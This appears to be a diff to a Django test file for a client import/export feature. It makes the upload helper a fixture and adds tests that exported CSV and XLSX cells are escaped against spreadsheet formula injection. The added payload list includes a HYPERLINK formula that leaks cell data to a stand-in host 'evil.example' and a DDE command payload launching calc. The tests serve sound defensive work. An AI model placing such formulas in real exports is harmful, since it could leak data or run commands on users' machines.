@@ -42,8 +42,18 @@ def xlsx_file(rows: list[list], name: str = "clients.xlsx") -> SimpleUploadedFil
     return SimpleUploadedFile(name, out.getvalue())
 
 
-def upload(http, file, fmt=CSV_FORMAT):
-    return http.post(IMPORT_URL, {"format": fmt, "import_file": file})
+@pytest.fixture
+def upload(django_capture_on_commit_callbacks):
+    """upload(http, file, fmt) -> the response after the import ran (the queue is
+    synchronous in tests; the task is queued when the upload commits)."""
+
+    def _upload(http, file, fmt=CSV_FORMAT, follow=False):
+        with django_capture_on_commit_callbacks(execute=True):
+            return http.post(
+                IMPORT_URL, {"format": fmt, "import_file": file}, follow=follow
+            )
+
+    return _upload
 
 
 def rows_of(response) -> list[list[str]]:
@@ -58,7 +68,7 @@ def rows_of(response) -> list[list[str]]:
 # --- import --------------------------------------------------------------------
 
 
-def test_alice_imports_a_csv_and_owns_every_new_client(alice, login):
+def test_alice_imports_a_csv_and_owns_every_new_client(alice, login, upload):
     file = csv_file(
         [
             ["email", "full_name", "comment"],
@@ -76,20 +86,22 @@ def test_alice_imports_a_csv_and_owns_every_new_client(alice, login):
     assert set(selectors.visible_clients(alice)) == set(clients)
 
 
-def test_an_xlsx_imports_like_a_csv(alice, login):
+def test_an_xlsx_imports_like_a_csv(alice, login, upload):
     file = xlsx_file([["Email", "Full name"], ["x@example.org", "Ex"], [None, None]])
     response = upload(login(alice), file, XLSX_FORMAT)
     assert response.status_code == 302
     assert Client.objects.get(owner=alice).full_name == "Ex"
 
 
-def test_the_owner_column_of_a_file_is_ignored(alice, bob, login):
+def test_the_owner_column_of_a_file_is_ignored(alice, bob, login, upload):
     file = csv_file([["email", "owner"], ["c@example.org", str(bob.pk)]])
     upload(login(alice), file)
     assert Client.objects.get(email="c@example.org").owner == alice
 
 
-def test_bad_rows_are_listed_with_their_line_and_nothing_is_imported(alice, login):
+def test_bad_rows_are_listed_with_their_line_and_nothing_is_imported(
+    alice, login, upload
+):
     file = csv_file(
         [
             ["email", "full_name"],
@@ -115,7 +127,9 @@ def test_bad_rows_are_listed_with_their_line_and_nothing_is_imported(alice, logi
     assert not Client.objects.filter(owner=alice).exists()
 
 
-def test_known_addresses_update_and_repeats_in_the_file_count_once(alice, login):
+def test_known_addresses_update_and_repeats_in_the_file_count_once(
+    alice, login, upload
+):
     ClientFactory(owner=alice, email="Known@Example.org", full_name="Old")
     file = csv_file(
         [
@@ -138,7 +152,7 @@ def test_known_addresses_update_and_repeats_in_the_file_count_once(alice, login)
     assert Client.objects.filter(owner=alice).count() == 2
 
 
-def test_the_same_address_kept_by_bob_is_imported_for_alice(alice, bob, login):
+def test_the_same_address_kept_by_bob_is_imported_for_alice(alice, bob, login, upload):
     ClientFactory(owner=bob, email="shared@example.org", full_name="Bob's")
     upload(
         login(alice), csv_file([["email", "full_name"], ["shared@example.org", "A"]])
@@ -147,20 +161,20 @@ def test_the_same_address_kept_by_bob_is_imported_for_alice(alice, bob, login):
     assert Client.objects.get(owner=alice).full_name == "A"
 
 
-def test_a_file_without_an_email_column_is_refused(alice, login):
+def test_a_file_without_an_email_column_is_refused(alice, login, upload):
     response = upload(login(alice), csv_file([["name"], ["Ann"]]))
     assert response.status_code == 200
     assert "email" in str(response.context["form"].errors)
 
 
-def test_a_file_that_is_not_xlsx_is_refused_with_a_message(alice, login):
+def test_a_file_that_is_not_xlsx_is_refused_with_a_message(alice, login, upload):
     response = upload(login(alice), csv_file([["email"], ["a@example.org"]]), "1")
     assert response.status_code == 200
     assert response.context["form"].errors
 
 
 @pytest.mark.parametrize("role", ["manager", "editor"])
-def test_managers_and_editors_cannot_import(role, request, login):
+def test_managers_and_editors_cannot_import(role, request, login, upload):
     http = login(request.getfixturevalue(role))
     assert http.get(IMPORT_URL).status_code == 403
     response = upload(http, csv_file([["email"], ["m@example.org"]]))
@@ -214,7 +228,7 @@ def test_alice_exports_only_her_clients(alice, bob, login):
     assert "bobs@example.org" not in response.content.decode()
 
 
-def test_an_exported_file_imports_back(alice, login):
+def test_an_exported_file_imports_back(alice, login, upload):
     ClientFactory(owner=alice, email="round@example.org", full_name="Round Trip")
     http = login(alice)
     body = export(http).content
@@ -248,6 +262,72 @@ def test_managers_export_every_client(alice, bob, manager, login):
 
 def test_editors_cannot_export_clients(editor, login):
     assert export(login(editor)).status_code == 403
+
+
+FORMULA_PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"x")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1@ex.test",
+    "-2+3",
+    "\tcmd",
+]
+
+
+def _clients_with_formulas(owner) -> None:
+    for i, payload in enumerate(FORMULA_PAYLOADS):
+        # The factory skips validation: an address like "+1@ex.test" is valid, the
+        # others could come from an older version or a direct database write.
+        ClientFactory(owner=owner, email=f"{i}{payload}", full_name=payload)
+    ClientFactory(owner=owner, email="+1@ex.test", full_name="Plus", comment="=1+1")
+
+
+def test_the_client_csv_export_never_holds_a_formula(alice, login):
+    _clients_with_formulas(alice)
+    rows = rows_of(export(login(alice)))[1:]
+    cells = [cell for row in rows for cell in row[:3] if cell]
+    assert cells, rows
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    names = {row[1] for row in rows}
+    assert {"'" + payload for payload in FORMULA_PAYLOADS} <= names
+    assert ["'+1@ex.test", "Plus", "'=1+1"] in [row[:3] for row in rows]
+
+
+def test_the_client_xlsx_export_never_holds_a_formula(alice, login):
+    _clients_with_formulas(alice)
+    response = export(login(alice), XLSX_FORMAT)
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row[:3]]
+    assert len(cells) == 3 * (len(FORMULA_PAYLOADS) + 1)
+    for cell in cells:
+        assert cell.data_type != "f", cell.value
+        assert not str(cell.value or "").startswith(("=", "+", "-", "@")), cell.value
+    names = {cell.value for row in sheet.iter_rows(min_row=2) for cell in row[1:2]}
+    assert {"'" + payload for payload in FORMULA_PAYLOADS} <= names
+
+
+def test_an_escaped_export_imports_back_unchanged(alice, login, upload):
+    ClientFactory(owner=alice, email="+1@ex.test", full_name="-Dash", comment="=1+1")
+    http = login(alice)
+    body = export(http).content
+    Client.objects.filter(owner=alice).delete()
+    upload(http, SimpleUploadedFile("back.csv", body, "text/csv"))
+    client = Client.objects.get(owner=alice)
+    assert (client.email, client.full_name, client.comment) == (
+        "+1@ex.test",
+        "-Dash",
+        "=1+1",
+    )
+
+
+def test_every_export_escapes_formulas_with_the_same_helper():
+    from apps.mailings import exports, resources
+
+    assert resources.spreadsheet_safe is exports.spreadsheet_safe
+    assert exports.spreadsheet_safe("@x") == "'@x"
+    assert exports.spreadsheet_safe("\rx") == "'\rx"
+    assert exports.spreadsheet_safe("plain") == "plain"
+    assert exports.spreadsheet_safe(3) == 3
 
 
 # --- attempt reports ---------------------------------------------------------------
@@ -316,7 +396,7 @@ def test_the_client_list_offers_managers_export_but_no_import(manager, login):
 
 
 def test_a_superuser_imports_for_themselves_and_exports_everyone(
-    superuser, alice, login
+    superuser, alice, login, upload
 ):
     ClientFactory(owner=alice, email="alices@example.org")
     http = login(superuser)
